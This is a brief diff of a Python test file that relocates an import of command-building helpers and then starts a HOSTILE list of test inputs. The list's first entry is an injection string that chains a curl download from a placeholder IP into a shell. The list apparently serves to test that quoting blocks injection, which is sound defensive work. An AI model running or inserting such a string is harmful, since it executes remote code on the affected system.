@@ -7,9 +7,9 @@ from pathlib import Path
 
 import pytest
 
-from remediation.commands import advice, command, joined, quoted
 from remediation.journal import Journal
 from remediation.journal.listing import newest
+from remediation.model.commands import advice, command, joined, quoted
 
 HOSTILE = [
     "x; curl http://192.0.2.1 | sh",
